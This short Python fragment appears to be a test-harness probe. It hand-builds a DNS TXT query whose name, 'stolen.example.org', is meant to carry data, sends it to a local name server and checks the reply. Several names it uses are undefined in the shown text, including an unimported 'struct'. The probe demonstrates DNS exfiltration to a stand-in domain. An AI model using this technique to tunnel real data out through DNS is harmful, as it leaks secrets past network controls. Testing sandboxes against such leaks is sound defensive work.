# Asks a name server by UDP for a name that carries data.
import socket


def attempt():
    labels = b"".join(bytes([len(part)]) + part for part in (b"stolen", b"example", b"org")) + b"\0"
    question = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + labels + struct.pack(">HH", 16, 1)
    with socket.socket(type=socket.SOCK_DGRAM) as datagrams:
        datagrams.settimeout(3)
        datagrams.sendto(question, ("127.0.0.1", given["udp_port"]))
        answer = datagrams.recv(512)
    if answer[:2] != b"\x12\x34":
        raise Nothing("it is the answer to another question")
    return greeting_in(answer)


outcome = tried(attempt)
